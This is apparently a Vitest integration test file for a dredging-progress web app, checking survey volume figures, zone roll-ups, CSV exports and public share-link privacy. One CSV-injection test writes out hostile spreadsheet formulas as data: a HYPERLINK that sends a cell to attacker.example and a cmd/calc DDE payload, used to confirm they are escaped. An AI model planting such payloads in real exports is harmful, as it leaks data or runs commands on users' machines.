import { createReadStream, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Papa from "papaparse";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeSequelize } from "../../db/connection.server";
import { startsLikeFormula } from "../../shared/csv-safe";
import { computeSurveyVolumes, type EngineSettings } from "../../shared/pipeline";
import { RATE_WINDOW_CALENDAR_DAYS } from "../../shared/progress/forecast";
import { workingDaysBetween, workingCalendar } from "../../shared/progress/working-days";
import { soundingElevations } from "../../shared/soundings/elevations";
import { parseSoundingsCsv } from "../../shared/soundings/parse-csv";
import { UNZONED_NAME, rollUpZones } from "../../shared/volumes/rollup";
import { cellLabel, cellRowCol } from "../../shared/grid/cell-grid";
import { GRID, PROJECT, SURVEYS, WORK_LIMIT, ZONES } from "../../sample-data/scenario";
import { Assignment, DewateringShift, Dive, DiveTeam, Project, ShareLink, Shoreline, Survey, SurveySnapshot, User, Zone } from "~/lib/db.server";
import { loadProgress, type ProgressView } from "~/models/progress.server";
import { presentProject, type ProjectView } from "~/lib/auth/project-view.server";
import { loadQuantities, quantitiesCsv } from "~/models/quantities.server";
import { PUBLIC_REQUESTS_PER_MINUTE, createShareLink, publicProgressForToken, publicRateLimit, revokeShareLink } from "~/models/share-links.server";
import { hashLinkToken } from "~/lib/auth/tokens.server";
import { presentUser } from "~/lib/auth/users.server";
import { getCellsPayload } from "~/models/cells.server";
import { addFindPhoto, findInputSchema, logFind } from "~/models/finds.server";
import { liftHold } from "~/models/holds.server";
import * as shareLinksApi from "~/routes/api.projects.$projectId.share-links";
import * as shareLinkApi from "~/routes/api.projects.$projectId.share-links.$token";
import * as progressApi from "~/routes/api.projects.$projectId.progress";
import * as quantitiesReport from "~/routes/projects.$projectId.quantities.report";
import { ORIGIN, addMember, makeUser, requestAs } from "./helpers";
import { DEMO_DIR, importDemoSurveys, makeDemoSiteProject, projectCrs } from "./import-helpers";
import { polygonVertices, walkPublicValue, type PublicWalkRules } from "./progress-public-walk";

// Progress figures of the demo scenario's five surveys, imported through the import path, against
// the engine run directly on the same files (source: computed, the independent reference).

process.env.UPLOAD_DIR = mkdtempSync(join(tmpdir(), "firmsand-progress-test-"));
afterAll(closeSequelize);

type DemoSurvey = (typeof SURVEYS)[number];

const settings: EngineSettings = {
  cellSize: GRID.cellSizeFt, resolution: GRID.rasterResolutionFt, maxEdge: GRID.maxTriangleEdgeFt,
  originX: GRID.originEastingFt, originY: GRID.originNorthingFt, rotationDegrees: GRID.rotationDegrees,
  tolerance: GRID.toleranceFt, firmShare: GRID.firmShare, minCoverage: GRID.minCoverage,
  surveyNoise: GRID.toleranceFt, rasterPrecision: "float32",
};

/** The engine on the files directly (parse → elevations → pipeline), volumes in yd³ (27 ft³, NIST SP 811). */
function engineOn(surveys: DemoSurvey[]) {
  const crs = projectCrs();
  const project = (coordinates: number[][][]) => coordinates.map((ring) => ring.map(([lon, lat]) => crs.fromLonLat(lon, lat)));
  const points = surveys.map((survey) => {
    const parsed = parseSoundingsCsv(readFileSync(join(DEMO_DIR, survey.fileName), "utf8"));
    const { elevation, refusalElevation } = soundingElevations(parsed, survey.waterSurfaceElevationFt);
    return { parsed, elevation, refusal: refusalElevation };
  });
  const [base, ...later] = points;
  const result = computeSurveyVolumes(
    {
      baseline: { easting: base.parsed.easting, northing: base.parsed.northing, elevation: base.elevation },
      firm: { easting: base.parsed.easting, northing: base.parsed.northing, elevation: base.refusal! },
      progress: later.map(({ parsed, elevation }) => ({ easting: parsed.easting, northing: parsed.northing, elevation })),
    },
    [project(WORK_LIMIT.coordinates)],
    settings,
  );
  const zones = rollUpZones(result.cellGrid, result.cells, ZONES.map((zone) => ({ id: zone.name, polygon: [project(zone.polygon.coordinates)] })));
  const yd3 = (totals: { plannedVolumeCubicLength: number; removedVolumeCubicLength: number; remainingVolumeCubicLength: number; cells: number; cellsAtFirmSand: number }) => ({
    plannedVolume: totals.plannedVolumeCubicLength / 27, removedVolume: totals.removedVolumeCubicLength / 27, remainingVolume: totals.remainingVolumeCubicLength / 27,
    cells: totals.cells, cellsAtFirmSand: totals.cellsAtFirmSand,
  });
  // Keyed by zone name; the Unzoned row (id null) by UNZONED_NAME, as the app names it.
  return { total: yd3(result.totals), zones: new Map(zones.map((zone) => [zone.id ?? UNZONED_NAME, yd3(zone.totals)])) };
}

function expectClose(actual: number, expected: number, relative = 1e-9, label = "") {
  expect(Math.abs(actual - expected), `${label} ${actual} vs ${expected}`).toBeLessThanOrEqual(Math.max(Math.abs(expected) * relative, 1e-6));
}

let site: Awaited<ReturnType<typeof makeDemoSiteProject>>;
let project: ProjectView;
let progress: ProgressView;
let outreachId = 0;

beforeAll(async () => {
  site = await makeDemoSiteProject("progress");
  project = presentProject(site.project);
  const outreach = await makeUser("progress-outreach");
  await addMember(outreach.id, project.id, "outreach");
  outreachId = outreach.id;
  await importDemoSurveys(project.id, site.users.surveyor);
  progress = await loadProgress(project);
  console.log(`[progress] ${JSON.stringify({ total: progress.total, zones: progress.zones.map(({ name, removedVolume, remainingVolume, percentCompleteByVolume, forecast }) => ({ name, removedVolume, remainingVolume, percentCompleteByVolume, forecast })), production: progress.production })}`);
}, 600_000);

describe("progress figures equal the engine on the same surveys", () => {
  it("project totals", () => {
    const direct = engineOn(SURVEYS);
    expect(progress.volumeLabel).toBe("yd³"); // published: US survey feet projects report cubic yards (NIST SP 811)
    expectClose(progress.total.plannedVolume, direct.total.plannedVolume, 1e-9, "planned"); // computed: engine on the files
    expectClose(progress.total.removedVolume, direct.total.removedVolume, 1e-9, "removed"); // computed
    expectClose(progress.total.remainingVolume, direct.total.remainingVolume, 1e-9, "remaining"); // computed
    expect(progress.total.cells).toBe(direct.total.cells); // computed
    expect(progress.total.cellsAtFirmSand).toBe(direct.total.cellsAtFirmSand); // computed: confirmed cells count as at firm sand
    expect(progress.total.cellsConfirmed).toBeGreaterThan(0); // the closeout re-sounded the vent basin
    expect(progress.total.lastSurveyOn).toBe("2026-11-24"); // the closeout's date
    expect(progress.total.percentCompleteByVolume).toBeCloseTo((1 - direct.total.remainingVolume / direct.total.plannedVolume) * 100, 6); // computed
  }, 120_000);

  it("zone totals", () => {
    const direct = engineOn(SURVEYS);
    // The demo's edge cells lie in no zone: an Unzoned row (zone id null) follows the zones.
    expect(progress.zones.map((zone) => zone.name)).toEqual([...ZONES.map((zone) => zone.name), UNZONED_NAME]);
    expect(progress.zones.map((zone) => zone.zoneId === null)).toEqual([...ZONES.map(() => false), true]);
    for (const zone of progress.zones) {
      const engine = direct.zones.get(zone.name)!;
      expectClose(zone.plannedVolume, engine.plannedVolume, 1e-9, `${zone.name} planned`); // computed
      expectClose(zone.removedVolume, engine.removedVolume, 1e-9, `${zone.name} removed`); // computed
      expectClose(zone.remainingVolume, engine.remainingVolume, 1e-9, `${zone.name} remaining`); // computed
      expect(zone.cells, zone.name).toBe(engine.cells); // computed
      expect(zone.cellsAtFirmSand, zone.name).toBe(engine.cellsAtFirmSand); // computed
    }
    const vent = progress.zones.find((zone) => zone.name === "Vent basin")!;
    expect(vent.cellsConfirmed).toBe(vent.cellsAtFirmSand); // the closeout confirmed every vent-basin cell at firm sand
    expect(vent.lastSurveyOn).toBe("2026-11-24");
    expect(progress.zones.find((zone) => zone.name === "Lower run")!.lastSurveyOn).toBe("2026-11-17");
  }, 120_000);

  it("the cumulative series: each survey date equals the engine on the surveys up to it", () => {
    expect(progress.series.dates).toEqual(SURVEYS.map((survey) => survey.surveyedOn));
    SURVEYS.forEach((survey, index) => {
      const direct = engineOn(SURVEYS.slice(0, index + 1));
      expectClose(progress.series.totalRemovedVolume[index], direct.total.removedVolume, 1e-6, survey.surveyedOn); // computed (snapshots keep float32 per cell, summed in float64)
      for (const zone of progress.series.zones) expectClose(zone.removedVolume[index]!, direct.zones.get(zone.name)!.removedVolume, 1e-6, `${survey.surveyedOn} ${zone.name}`); // computed
    });
  }, 300_000);

  it("production per working day and the forecast follow from the series", () => {
    expect(progress.workingDayBasis).toBe("weekdays"); // no dives logged on this project
    const weekdays = workingCalendar([]);
    progress.production.forEach((interval, index) => {
      expectClose(interval.removedVolume, progress.series.totalRemovedVolume[index + 1] - progress.series.totalRemovedVolume[index], 1e-12);
      expect(interval.workingDays).toBe(workingDaysBetween(weekdays, interval.fromDate, interval.toDate));
      expect(interval.basis).toBe("weekdays");
      expect(interval.thin).toBe(interval.workingDays < 3); // practice: fewer than three working days is too few to compare
      expectClose(interval.volumePerWorkingDay!, interval.removedVolume / interval.workingDays, 1e-12);
    });
    // invariant: the intervals add up to the removal at the last survey
    expectClose(progress.production.reduce((sum, interval) => sum + interval.removedVolume, 0), progress.total.removedVolume, 1e-6);
    const latestSurvey = progress.series.dates.at(-1)!;
    // computed: the window is the 42 calendar days before the latest survey (2026-11-24 − 42 d = 2026-10-13)
    const windowFrom = new Date(Date.parse(`${latestSurvey}T00:00:00Z`) - RATE_WINDOW_CALENDAR_DAYS * 86_400_000).toISOString().slice(0, 10);
    for (const zone of progress.zones) {
      if (zone.forecast.state !== "forecast") continue;
      const forecast = zone.forecast;
      expect([forecast.windowFromDate, forecast.windowToDate]).toEqual([windowFrom, latestSurvey]);
      // computed: every rate interval ends in the window, and the mean is their removal over their working days
      for (const interval of forecast.intervals) expect(interval.toDate >= windowFrom, `${zone.name} ${interval.toDate}`).toBe(true);
      const removed = forecast.intervals.reduce((sum, interval) => sum + interval.removedVolume, 0);
      const days = forecast.intervals.reduce((sum, interval) => sum + interval.workingDays, 0);
      expectClose(forecast.volumePerWorkingDay!, removed / days, 1e-9, zone.name);
      // computed: the finish is workingDaysLeft weekdays after the latest survey date (never before it), and that many days at the rate clear what remains
      expect(forecast.finishDate! > latestSurvey, zone.name).toBe(true);
      expect(workingDaysBetween(weekdays, latestSurvey, forecast.finishDate!)).toBe(forecast.workingDaysLeft);
      expect(forecast.workingDaysLeft! * forecast.volumePerWorkingDay!).toBeGreaterThanOrEqual(zone.remainingVolume);
      // invariant: the range brackets the mean
      expect(forecast.slowestVolumePerWorkingDay! <= forecast.volumePerWorkingDay! && forecast.volumePerWorkingDay! <= forecast.fastestVolumePerWorkingDay!).toBe(true);
      expect(forecast.earliestFinishDate! <= forecast.finishDate!).toBe(true);
      if (forecast.latestFinishDate !== null) expect(forecast.finishDate! <= forecast.latestFinishDate).toBe(true);
    }
    expect(progress.zones.find((zone) => zone.name === "Lower run")!.forecast.state).toBe("forecast"); // part way done on 2026-11-17, inside the window
    expect(progress.assumptions.join(" ")).toMatch(/weekdays/);
    expect(progress.assumptions.join(" ")).toContain(`${RATE_WINDOW_CALENDAR_DAYS} calendar days before the latest survey date`);
  });

  it("counts days with a logged dive or dewatering shift where an interval has them, weekdays where it has none", async () => {
    const team = await DiveTeam.create({ projectId: project.id, name: "Test team", hoses: [{ name: "Hose A", diameter: 6, diameterUnit: "in" }], members: [] } as never);
    // two dives on 09-10 and one on 09-15: two working days in the first interval (2026-09-08 → 09-29)
    const logged = ["2026-09-10", "2026-09-10", "2026-09-15"];
    for (const [index, diveDate] of logged.entries()) {
      await Dive.create({ projectId: project.id, diveDate, teamId: team.id, diverName: `Diver ${index + 1}`, leftSurfaceAt: null, leftBottomAt: null, bottomMinutes: 60, maxDepth: 8, notes: "", recordedById: null } as never);
    }
    // a dive plan alone is not a day worked
    await Assignment.create({ projectId: project.id, workDate: "2026-09-22", teamId: team.id, row: 0, col: 0, label: "A1", hose: "Hose A", notes: "", workingDepth: null, plannedBottomMinutes: null, confirmedReason: null, createdById: null } as never);
    try {
      const withDives = await loadProgress(project);
      expect(withDives.workingDayBasis).toBe("days-logged");
      const [first, second] = withDives.production;
      // practice: the first interval rests on its two days with a logged dive, so it is thin
      expect([first.basis, first.workingDays, first.thin]).toEqual(["days-logged", 2, true]);
      expectClose(first.volumePerWorkingDay!, first.removedVolume / 2, 1e-12);
      // the next interval has no logged dive: weekdays
      expect(second.basis).toBe("weekdays");
      expect(second.workingDays).toBe(workingDaysBetween(workingCalendar([]), second.fromDate, second.toDate));
      expect(withDives.assumptions.join(" ")).toMatch(/dives or dewatering shifts were logged/);
      // computed: the forecast's rate is per weekday, so logging dives leaves every zone's forecast as it was
      expect(withDives.zones.map((zone) => zone.forecast)).toEqual(progress.zones.map((zone) => zone.forecast));
      // A dewatering shift is a day worked too: one on 09-11 (no dive) adds a day, one on 09-10 (dives too) does not.
      for (const shiftDate of ["2026-09-11", "2026-09-10"]) {
        await DewateringShift.create({
          projectId: project.id, shiftDate, startAt: "07:00", endAt: "15:00", pumpHours: 7, slurryFlowValue: 200, slurryFlowUnit: "m3/h",
          totaliserStart: null, totaliserEnd: null, totaliserUnit: null, solidsByWeight: 0.1, slurrySpecificGravity: null, solidsSpecificGravity: 2.5,
          polymerProduct: "P-1", polymerLot: null, doseMgPerL: 10, stockPercent: 0.5, drySolidsKg: 1000, neatPolymerKg: 1, notes: "", idempotencyKey: null,
        } as never);
      }
      const withShifts = await loadProgress(project);
      expect([withShifts.production[0].basis, withShifts.production[0].workingDays]).toEqual(["days-logged", 3]); // computed: 09-10, 09-11, 09-15
      expectClose(withShifts.production[0].volumePerWorkingDay!, withShifts.production[0].removedVolume / 3, 1e-12);
    } finally {
      await DewateringShift.destroy({ where: { projectId: project.id } });
      await Dive.destroy({ where: { projectId: project.id } });
      await Assignment.destroy({ where: { projectId: project.id } });
      await team.destroy();
    }
  });

  it("the end-area check sits beside the surface volume it checks", async () => {
    const withCheck = await loadProgress(project, { crossCheck: true });
    const check = withCheck.crossCheck!;
    expect(check).not.toBeNull();
    expectClose(check.surfaceRemovedVolume, progress.total.removedVolume, 1e-9, "surface"); // computed: the same surfaces
    expect(check.sections).toBeGreaterThan(10);
    // The method as documented: sections one grid cell apart (the scenario's 20 ft cells), so a
    // work limit some 700 ft long gives dozens of them.
    expect(check.sectionSpacing).toBe(GRID.cellSizeFt);
    // practice: on a densely sounded site, sections one cell apart agree with the surface volume within a few percent
    expect(Math.abs(check.differencePercent!)).toBeLessThan(5);
    console.log(`[progress] removed ${check.surfaceRemovedVolume.toFixed(1)} yd³ surface, ${check.endAreaRemovedVolume.toFixed(1)} yd³ end area (${check.differencePercent!.toFixed(2)} %, ${check.sections} sections)`);
    expect((await loadProgress(project, { crossCheck: true })).crossCheck).toEqual(check); // kept until the next recompute
  }, 120_000);

  it("the JSON API gives the same figures to a viewer and refuses a non-member", async () => {
    const response = (await progressApi.loader({ request: await requestAs(site.users.viewer, `/api/projects/${project.id}/progress`), params: { projectId: String(project.id) }, context: {} } as never)) as Response;
    expect(response.status).toBe(200);
    const body = (await response.json()) as ProgressView;
    expect(body.total.removedVolume).toBe(progress.total.removedVolume);
    const stranger = await makeUser("progress-stranger");
    const refused = (await progressApi.loader({ request: await requestAs(stranger.id, `/api/projects/${project.id}/progress`), params: { projectId: String(project.id) }, context: {} } as never)) as Response;
    expect(refused.status).toBe(403);
  });
});

describe("zone rows add up to the project for every figure", () => {
  const VOLUMES = ["plannedVolume", "removedVolume", "remainingVolume"] as const;
  const COUNTS = ["cells", "cellsAtFirmSand", "cellsConfirmed", "cellsInWork", "cellsUntouched", "cellsNoData"] as const;
  type Row = Record<(typeof VOLUMES)[number] | (typeof COUNTS)[number], number>;

  /** invariant: every cell inside the work limit is in exactly one row, so the rows sum to the project. */
  function expectRowsAddUp(rows: readonly Row[], total: Row, volumeTolerance: number, where: string) {
    for (const key of VOLUMES) {
      const sum = rows.reduce((running, row) => running + row[key], 0);
      expect(Math.abs(sum - total[key]), `${where} ${key}: rows ${sum} vs project ${total[key]}`).toBeLessThanOrEqual(volumeTolerance);
    }
    for (const key of COUNTS) expect(rows.reduce((running, row) => running + row[key], 0), `${where} ${key}`).toBe(total[key]);
  }

  it("the demo has an Unzoned row holding its edge cells, as the direct engine finds them", () => {
    const unzoned = progress.zones.find((zone) => zone.zoneId === null)!;
    const direct = engineOn(SURVEYS).zones.get(UNZONED_NAME)!;
    expect(unzoned.cells).toBe(direct.cells); // computed: cells whose centroid no zone polygon holds
    expectClose(unzoned.plannedVolume, direct.plannedVolume, 1e-9, "Unzoned planned"); // computed
    console.log(`[progress] Unzoned: ${unzoned.cells} cells, ${unzoned.plannedVolume.toFixed(2)} of ${progress.total.plannedVolume.toFixed(2)} yd³ planned`);
  }, 120_000);

  it("in the progress API's JSON", async () => {
    const response = (await progressApi.loader({ request: await requestAs(site.users.viewer, `/api/projects/${project.id}/progress`), params: { projectId: String(project.id) }, context: {} } as never)) as Response;
    const body = (await response.json()) as ProgressView;
    expectRowsAddUp(body.zones, body.total, 0.01, "API");
    // and every survey date of the series: zones' removed volumes sum to the project's
    body.series.dates.forEach((date, index) => {
      const sum = body.series.zones.reduce((running, zone) => running + zone.removedVolume[index]!, 0);
      expect(Math.abs(sum - body.series.totalRemovedVolume[index]), date).toBeLessThanOrEqual(0.01);
    });
  });

  it("in every stored snapshot, deposited volume included", async () => {
    const snapshots = await SurveySnapshot.findAll({ where: { projectId: project.id } });
    expect(snapshots).toHaveLength(SURVEYS.length);
    for (const snapshot of snapshots) {
      expect(snapshot.zones.at(-1)!.zoneId).toBeNull();
      expectRowsAddUp(snapshot.zones.map((zone) => zone.totals as Row), snapshot.totals, 0.01, String(snapshot.surveyedOn));
      const deposited = snapshot.zones.reduce((running, zone) => running + zone.totals.depositedVolume, 0);
      expect(Math.abs(deposited - snapshot.totals.depositedVolume), `${snapshot.surveyedOn} depositedVolume`).toBeLessThanOrEqual(0.01);
    }
  });

  it("in the quantities CSV", async () => {
    const rows = Papa.parse<string[]>(quantitiesCsv(await loadQuantities(project), new Date("2026-12-01T00:00:00Z")), { skipEmptyLines: true }).data;
    expect(rows.find((row) => row[0] === "Zone rows")?.[1]).toMatch(/^Unzoned: /);
    const header = rows.findIndex((row) => row[0] === "zone");
    const totalAt = rows.findIndex((row) => row[0] === "Project total");
    const parse = (row: string[]): Row => ({
      plannedVolume: Number(row[1]), removedVolume: Number(row[2]), remainingVolume: Number(row[3]),
      cells: Number(row[5]), cellsAtFirmSand: Number(row[6]), cellsConfirmed: Number(row[7]),
      // the CSV prints no in-work, untouched or no-data counts
      cellsInWork: 0, cellsUntouched: 0, cellsNoData: 0,
    });
    const zoneRows = rows.slice(header + 1, totalAt);
    expect(zoneRows.map((row) => row[0])).toEqual([...ZONES.map((zone) => zone.name), UNZONED_NAME]);
    // computed: each volume is printed to 0.01, so within 0.005 of the true one; the rows' sum and the
    // printed total may then differ by up to 0.005 × (rows + 1)
    expectRowsAddUp(zoneRows.map(parse), parse(rows[totalAt]), 0.005 * (zoneRows.length + 1) + 1e-9, "CSV");
  });

  it("in the printable report's data", async () => {
    const path = `/projects/${project.id}/quantities/report`;
    const report = await quantitiesReport.loader({ request: await requestAs(site.users.viewer, path), params: { projectId: String(project.id) }, context: {} } as never);
    expect(report.zones.map((zone) => zone.name)).toEqual([...ZONES.map((zone) => zone.name), UNZONED_NAME]);
    expectRowsAddUp(report.zones, report.total, 0.01, "report");
  });
});

describe("quantities CSV", () => {
  it("zone and project totals match the figures and the cells add up to them", async () => {
    const csv = quantitiesCsv(await loadQuantities(project), new Date("2026-12-01T00:00:00Z"));
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(rows[1]).toEqual(["Project", project.name]);
    const totalRow = rows.find((row) => row[0] === "Project total")!;
    expect(Number(totalRow[2])).toBeCloseTo(progress.total.removedVolume, 2);
    expect(Number(totalRow[3])).toBeCloseTo(progress.total.remainingVolume, 2);
    const cellHeader = rows.findIndex((row) => row[0] === "cell");
    const cellRows = rows.slice(cellHeader + 1);
    expect(cellRows.length).toBe(progress.total.cells);
    // computed: the cells' removed volumes (3 decimals each) add up to the project total
    expect(cellRows.reduce((sum, row) => sum + Number(row[6]), 0)).toBeCloseTo(progress.total.removedVolume, 0);
  });

  it("escapes text that a spreadsheet would run as a formula (OWASP CSV injection)", async () => {
    const zone = await Zone.findOne({ where: { projectId: project.id, name: "Lower run" } });
    const hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"Lower run")';
    await zone!.update({ name: hostile });
    await Project.update({ name: "@SUM(1+1)*cmd|' /C calc'!A0" }, { where: { id: project.id } });
    try {
      const csv = quantitiesCsv(await loadQuantities(presentProject((await Project.findByPk(project.id))!)), new Date());
      const fields = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
      expect(fields).toContain(`'${hostile}`); // published: OWASP — prefix a single quote
      expect(fields).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
      // published: OWASP — no field may start with = + - @ tab or CR unless it is a number we wrote
      const dangerous = fields.filter((field) => startsLikeFormula(field) && !Number.isFinite(Number(field)));
      expect(dangerous).toEqual([]);
    } finally {
      await zone!.update({ name: "Lower run" });
      await Project.update({ name: site.project.name }, { where: { id: project.id } });
    }
  });
});

describe("public share links", () => {
  async function walkRules(): Promise<PublicWalkRules> {
    const row = (await Project.findByPk(project.id))!;
    const zones = await Zone.findAll({ where: { projectId: project.id } });
    const people = await User.findAll({ attributes: ["name", "email"] });
    const surveys = await Survey.findAll({ where: { projectId: project.id }, attributes: ["fileName"] });
    return {
      allowedVertices: [...polygonVertices(row.workLimitGeoJson!), ...zones.flatMap((zone) => polygonVertices(zone.polygonGeoJson))],
      forbiddenStrings: [...people.flatMap((person) => [person.name, person.email]), ...surveys.map((survey) => survey.fileName)],
      // practice: the demo site lies near (600,000 ; 1,680,000) ftUS; any number within 20,000 ft of that is a projected position
      projectedExtent: { minX: GRID.originEastingFt - 20_000, maxX: GRID.originEastingFt + 20_000, minY: GRID.originNorthingFt - 20_000, maxY: GRID.originNorthingFt + 20_000 },
    };
  }

  it("create → public view of allow-listed fields only → revoke → gone", async () => {
    // A cultural find with a photo and its hold: none of it may reach the public view.
    const manager = presentUser((await User.findOne({ where: { id: site.users.manager } }))!);
    const payload = await getCellsPayload(project);
    const inside = cellRowCol(payload.grid!, payload.status.findIndex((code) => code >= 0));
    const find = await logFind(project, manager, findInputSchema.parse({ category: "cultural", description: "Walk-test sherd, incised rim", fieldTag: "WALK-T-9", cell: cellLabel(inside.row, inside.col), foundAt: "2026-11-05T10:00:00-05:00" }));
    const stagedPath = join(mkdtempSync(join(tmpdir(), "firmsand-walk-")), "photo.jpg");
    writeFileSync(stagedPath, await sharp({ create: { width: 64, height: 64, channels: 3, background: "#777" } }).jpeg().toBuffer());
    const photo = await addFindPhoto(project, manager, find.id, { path: stagedPath, fileName: "walk-photo.jpg", size: 0, sha256: "" });
    // Lifted at once, so the cells this file assigns elsewhere stay assignable; the hold still exists.
    await liftHold(project, manager, find.hold!.id, { authorisedBy: "Walk test", note: null });
    const findSecrets = [find.catalogueNumber, "Walk-test sherd", "WALK-T-9", "walk-photo.jpg", `/finds/${find.id}`, `/photos/${photo.id}`, `/holds/${find.hold!.id}`];
    const outreach = (await User.findByPk(outreachId))!;
    const created = await createShareLink(project, { id: outreach.id, name: outreach.name, email: outreach.email, isSiteAdmin: false } as never, { name: "County web page", publicText: "Muck removal in the spring run." }, ORIGIN, null);
    expect(created.token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 random bits, base64url
    expect(created.url).toBe(`${ORIGIN}/share/${created.token}`);
    const stored = await ShareLink.findOne({ where: { projectId: project.id, name: "County web page" } });
    expect(stored!.tokenHash).toBe(hashLinkToken(created.token));
    expect(JSON.stringify(stored!.toJSON())).not.toContain(created.token);

    const view = await publicProgressForToken(created.token);
    expect(view).not.toBeNull();
    expect(Object.keys(view!).sort()).toEqual(["lastUpdated", "nutrientsRemoved", "percentComplete", "projectName", "publicText", "removedVolume", "shoreline", "volumeLabel", "workLimit", "zones"]);
    // No lab sample on this project yet: no nutrient headline.
    expect(view!.nutrientsRemoved).toBeNull();
    expect(view!.percentComplete).toBe(Math.round(progress.total.percentCompleteByVolume!));
    // The Unzoned row joins the zones, flagged and without an outline of its own.
    expect(view!.zones.map((zone) => zone.name)).toEqual([...ZONES.map((zone) => zone.name), UNZONED_NAME]);
    expect(view!.zones.map((zone) => zone.unzoned)).toEqual([...ZONES.map(() => false), true]);
    expect(view!.zones.at(-1)!.polygons).toEqual([]);
    const rules = await walkRules();
    expect(walkPublicValue(view, { ...rules, forbiddenStrings: [...rules.forbiddenStrings, ...findSecrets] })).toEqual([]);

    expect(await revokeShareLink(project, { id: outreach.id } as never, { token: created.token }, null)).toBe(true);
    expect(await publicProgressForToken(created.token)).toBeNull();
    expect(await revokeShareLink(project, { id: outreach.id } as never, { token: created.token }, null)).toBe(false);
  });

  it("the walk catches a leak (it can fail)", async () => {
    const rules = await walkRules();
    const view = await publicProgressForToken((await createShareLink(project, { id: outreachId } as never, { name: "probe", publicText: "" }, ORIGIN, null)).token);
    const people = await User.findAll({ attributes: ["name"], limit: 1 });
    // a cell centre of the grid in lon/lat: a position that is no vertex
    const [lon, lat] = projectCrs().toLonLat(GRID.originEastingFt + 210, GRID.originNorthingFt + 130);
    const leaky = { ...view, email: "x@example.org", publicText: `${people[0].name} logged the finds`, zones: [...view!.zones, { name: "x", percentComplete: 1, polygons: [[[[lon, lat]]]] }], easting: GRID.originEastingFt };
    const problems = walkPublicValue(leaky, rules);
    expect(problems.some((problem) => problem.includes("email: forbidden key"))).toBe(true);
    expect(problems.some((problem) => problem.includes(people[0].name))).toBe(true);
    expect(problems.some((problem) => problem.includes('"finds"'))).toBe(true);
    expect(problems.some((problem) => problem.includes("not a work-limit or zone vertex"))).toBe(true);
    expect(problems.some((problem) => problem.includes("projected coordinate"))).toBe(true);
    // A find, its photo or a hold slipped into the view is caught by its keys and its catalogue number.
    const findLeak = walkPublicValue({ ...view, holds: [{ id: 1 }], photo: "x", note: "see WS-2026-0001" }, rules);
    expect(findLeak.some((problem) => problem.includes("holds: forbidden key"))).toBe(true);
    expect(findLeak.some((problem) => problem.includes("photo: forbidden key"))).toBe(true);
    expect(findLeak.some((problem) => problem.includes("WS-2026-0001"))).toBe(true);
  });

  it("the public view carries the shoreline for the context map, and only its vertices", async () => {
    // practice: a shoreline about 100 m around the work limit, as a manager uploads it for the map
    const positions = WORK_LIMIT.coordinates.flat();
    const lons = positions.map(([lon]) => lon), lats = positions.map(([, lat]) => lat);
    const [west, east, south, north] = [Math.min(...lons) - 0.001, Math.max(...lons) + 0.001, Math.min(...lats) - 0.001, Math.max(...lats) + 0.001];
    const ring = [[west, south], [east, south], [east, north], [west, north], [west, south]];
    const shoreline = await Shoreline.create({ projectId: project.id, fileName: "shore.geojson", geoJson: JSON.stringify({ type: "FeatureCollection", features: [{ type: "Feature", properties: { name: "secret-name" }, geometry: { type: "Polygon", coordinates: [ring] } }] }) });
    try {
      const view = await publicProgressForToken((await createShareLink(project, { id: outreachId } as never, { name: "with shore", publicText: "" }, ORIGIN, null)).token);
      expect(view!.shoreline).toEqual([[ring]]);
      const rules = await walkRules();
      // The shoreline's vertices join the allowed ones; its properties (a file's names, notes) never travel.
      expect(walkPublicValue(view, { ...rules, allowedVertices: [...rules.allowedVertices, ...(ring as Array<[number, number]>)], forbiddenStrings: [...rules.forbiddenStrings, "secret-name", "shore.geojson"] })).toEqual([]);
    } finally {
      await shoreline.destroy();
    }
  });

  it("the API: outreach POST 201 {token,url}, a viewer 403, DELETE 204 then the link is gone", async () => {
    const path = `/api/projects/${project.id}/share-links`;
    const post = async (userId: number) => {
      const request = await requestAs(userId, path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "Embed", publicText: "Hello" }) });
      return (await shareLinksApi.action({ request, params: { projectId: String(project.id) }, context: {} } as never).catch((error: unknown) => error)) as Response;
    };
    const created = await post(outreachId);
    expect(created.status).toBe(201);
    const body = (await created.json()) as { token: string; url: string };
    expect(Object.keys(body).sort()).toEqual(["token", "url"]);
    expect((await post(site.users.viewer)).status).toBe(403);
    expect(await publicProgressForToken(body.token)).not.toBeNull();
    const request = await requestAs(outreachId, `${path}/${body.token}`, { method: "DELETE" });
    const deleted = (await shareLinkApi.action({ request, params: { projectId: String(project.id), token: body.token }, context: {} } as never)) as Response;
    expect(deleted.status).toBe(204);
    expect(await publicProgressForToken(body.token)).toBeNull();
    const again = (await shareLinkApi.action({ request: await requestAs(outreachId, `${path}/${body.token}`, { method: "DELETE" }), params: { projectId: String(project.id), token: body.token }, context: {} } as never)) as Response;
    expect(again.status).toBe(404);
  });

  it("limits public requests per address per minute", () => {
    const start = 1_000_000;
    for (let index = 0; index < PUBLIC_REQUESTS_PER_MINUTE; index++) expect(publicRateLimit("203.0.113.9", start + index)).toBeNull();
    expect(publicRateLimit("203.0.113.9", start + 1000)).toBe(59);
    expect(publicRateLimit("198.51.100.7", start + 1000)).toBeNull(); // another address has its own window
    expect(publicRateLimit("203.0.113.9", start + 60_000)).toBeNull(); // a new window
  });
});
